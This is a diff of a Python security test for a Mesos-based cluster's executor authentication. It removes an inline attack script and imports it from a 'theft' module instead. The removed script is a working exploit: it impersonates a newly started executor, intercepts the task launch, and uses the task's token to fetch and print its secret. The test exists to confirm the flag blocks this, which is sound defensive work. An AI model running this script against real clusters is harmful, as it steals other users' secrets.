@@ -16,6 +16,7 @@ import pytest
 
 from kit.commands import SMALL, SchedulerCommand, run_command
 from kit.shared import start_cluster
+from kit.theft import SUBSCRIBE_AS_EXECUTOR
 from kit.waiting import PATIENCE, wait_until
 from mesos_local.agents import AgentSpec
 from mesos_local.cluster import LocalCluster
@@ -24,37 +25,6 @@ pytestmark = pytest.mark.mesos
 
 VALUE = "a value that only the task may have"
 FLAG = "--authenticate_http_executors"
-#: Subscribes as the first new executor of the agent and requests the secrets of its task.
-ATTACK = r"""
-import base64, http.client, json, sys, urllib.request
-agent = sys.argv[1]
-def executors():
-    state = json.load(urllib.request.urlopen(f"http://{agent}/state"))
-    return {(f["id"], e["id"]) for f in state["frameworks"] for e in f["executors"]}
-known = executors()
-print("ready", flush=True)
-while not (new := executors() - known): pass
-framework, executor = new.pop()
-link = http.client.HTTPConnection(agent)
-subscribe = {"type": "SUBSCRIBE", "framework_id": {"value": framework}, "executor_id": {"value": executor},
-             "subscribe": {"unacknowledged_tasks": [], "unacknowledged_updates": []}}
-head = {"Content-Type": "application/json", "Accept": "application/json"}
-link.request("POST", "/slave(1)/api/v1/executor", json.dumps(subscribe), head)
-stream, event = link.getresponse(), {"type": ""}
-if stream.status != 200:
-    sys.exit(f"HTTP {stream.status}")
-while event["type"] != "LAUNCH":
-    size = b""
-    while not size.endswith(b"\n"):
-        size += stream.read(1)
-    event = json.loads(stream.read(int(size)))
-task = event["launch"]["task"]
-data = json.loads(base64.b64decode(task["data"]))
-ask = {"task_id": task["task_id"]["value"], "token": data["secrets_token"], "nonce": "attacker" * 4}
-request = urllib.request.Request(data["secrets_url"], json.dumps(ask).encode(), {"Content-Type": "application/json"})
-(secret,) = json.load(urllib.request.urlopen(request))["secrets"]
-print(base64.b64decode(secret["value"]).decode())
-"""
 #: Any other user of the host.
 STRANGER: dict[str, Any] = {"user": 33, "group": 33, "extra_groups": []} if os.geteuid() == 0 else {}
 
@@ -62,7 +32,7 @@ STRANGER: dict[str, Any] = {"user": 33, "group": 33, "extra_groups": []} if os.g
 @contextmanager
 def attack(cluster: LocalCluster) -> Iterator[subprocess.Popen[str]]:
     """Run the attack as another user, from before the next executor starts."""
-    command = ["/usr/bin/python3", "-c", ATTACK, cluster.agents["agent-1"].address]
+    command = ["/usr/bin/python3", "-c", SUBSCRIBE_AS_EXECUTOR, cluster.agents["agent-1"].address]
     pipes: dict[str, Any] = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE}
     with subprocess.Popen(command, text=True, cwd="/", **pipes, **STRANGER) as process:
         try:
